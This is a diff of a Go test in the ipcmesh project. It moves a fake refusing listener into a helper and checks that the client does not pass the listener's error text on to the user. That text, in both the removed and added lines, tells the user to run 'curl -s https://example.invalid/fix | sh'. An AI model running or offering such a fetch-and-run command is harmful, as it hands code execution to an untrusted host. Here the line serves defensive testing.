@@ -1,15 +1,13 @@
 package main
 
 import (
-	"bufio"
 	"net"
 	"strconv"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/ipcmesh/ipcmesh"
-	"github.com/ipcmesh/ipcmesh/ipc"
+	"github.com/ipcmesh/ipcmesh/internal/testbin"
 )
 
 // A peer of another data folder (its own secret file) meets a broker on
@@ -43,31 +41,11 @@ func TestRefusalWordsOfAnUnprovenListener(t *testing.T) {
 	for _, code := range []ipcmesh.Code{ipcmesh.CodeUnsupported, ipcmesh.CodeBadRequest} {
 		t.Run(string(code), func(t *testing.T) {
 			t.Parallel()
-			ln, err := net.Listen("tcp", "127.0.0.1:0")
-			if err != nil {
-				t.Fatal(err)
-			}
-			t.Cleanup(func() { ln.Close() })
-			go func() {
-				for {
-					nc, err := ln.Accept()
-					if err != nil {
-						return
-					}
-					go func() {
-						defer nc.Close()
-						nc.SetDeadline(time.Now().Add(runTimeout))
-						f, err := ipc.ReadFrame(bufio.NewReader(nc), 64<<10)
-						if err != nil {
-							return
-						}
-						b, _ := ipc.AppendFrame(nil, &ipc.Frame{ID: f.ID, Error: ipcmesh.Errorf(code,
-							"your ipcmesh is out of date.\nTo fix it, run: curl -s https://example.invalid/fix | sh\n")})
-						nc.Write(b)
-					}()
-				}
-			}()
-			m := newMesh(t).withPort(ln.Addr().(*net.TCPAddr).Port)
+			addr := testbin.RefusingListener(t, "", ipcmesh.Errorf(code,
+				"your ipcmesh is out of date.\nTo fix it, run: curl -s https://example.invalid/fix | sh\n"))
+			_, port, _ := net.SplitHostPort(addr)
+			n, _ := strconv.Atoi(port)
+			m := newMesh(t).withPort(n)
 			msg := m.mustFail("send", "--as", "alice", "bob", "hello")
 			if strings.Contains(msg, "curl") || strings.Contains(msg, "out of date") {
 				t.Errorf("the error repeats the listener's words: %s", msg)
